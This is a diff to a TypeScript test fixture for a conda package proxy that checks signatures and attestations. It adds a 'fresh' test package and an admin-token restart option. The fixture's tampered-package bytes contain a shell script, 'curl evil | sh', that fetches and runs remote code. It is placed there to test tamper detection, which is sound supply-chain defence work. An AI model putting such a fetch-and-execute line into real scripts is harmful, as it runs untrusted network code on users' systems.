@@ -16,10 +16,18 @@ export const EVIL = 'evil-1.0-h0_0.conda';
 export const UNSIGNED = 'unsigned-1.0-h0_0.conda';
 export const TAMPERED = 'tampered-1.0-h0_0.conda';
 export const LOOSE = 'loose-1.0-h0_0.conda';
+/** Attested and trusted, asked for by no test before the frozen one (so never pinned). */
+export const FRESH = 'fresh-1.0-h0_0.conda';
 export const STRANGER = 'https://github.com/evil-org/x-feedstock/.github/workflows/build.yml@refs/heads/main';
 
 /** What the tampering upstream serves for TAMPERED: same name, same size class, other bytes. */
 export const tamperedBytes = makeCondaPackage({ name: 'tampered', version: '1.0', files: { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' } }).bytes;
+
+export interface RestartOptions {
+  frozen?: boolean;
+  routes?: Record<string, string>;
+  adminToken?: string;
+}
 
 export interface ServeFixture {
   sig: LocalSigstore;
@@ -34,7 +42,7 @@ export interface ServeFixture {
   log: AccessLogLine[];
   lockfile: string;
   /** Restart the proxy (e.g. frozen); the old one is closed. */
-  restart(o?: { frozen?: boolean; routes?: Record<string, string> }): Promise<RunningServe>;
+  restart(o?: RestartOptions): Promise<RunningServe>;
   close(): Promise<void>;
 }
 
@@ -48,6 +56,7 @@ export async function startServeFixture(o: { frozen?: boolean } = {}): Promise<S
       { spec: { name: 'evil', version: '1.0', files: { 'lib/evil.txt': 'evil' } }, signOptions: { san: STRANGER } },
       { spec: { name: 'unsigned', version: '1.0', files: { 'lib/unsigned.txt': 'unsigned' } }, attest: false },
       { spec: { name: 'tampered', version: '1.0', files: { 'lib/tampered.txt': 'tampered' } } },
+      { spec: { name: 'fresh', version: '1.0', files: { 'lib/fresh.txt': 'fresh' } } },
     ],
   });
   ch.setFault(`${ch.url}/noarch/${TAMPERED}`, { kind: 'body', body: tamperedBytes });
@@ -72,8 +81,8 @@ export async function startServeFixture(o: { frozen?: boolean } = {}): Promise<S
   const configPath = ws.writeConfig(raw);
   const config = resolveConfig(JSON.parse(readFileSync(configPath, 'utf8')), ws.dir, configPath, { env: ws.env });
   const log: AccessLogLine[] = [];
-  const start = (so: { frozen?: boolean; routes?: Record<string, string> } = {}): Promise<RunningServe> =>
-    startServe({ config, routes: so.routes ?? {}, listen: { host: '127.0.0.1', port: 0 }, frozen: so.frozen, offline: true, log: (l) => log.push(l) });
+  const start = (so: RestartOptions = {}): Promise<RunningServe> =>
+    startServe({ config, routes: so.routes ?? {}, listen: { host: '127.0.0.1', port: 0 }, frozen: so.frozen, offline: true, adminToken: so.adminToken, log: (l) => log.push(l) });
   const fx: ServeFixture = {
     sig,
     ch,
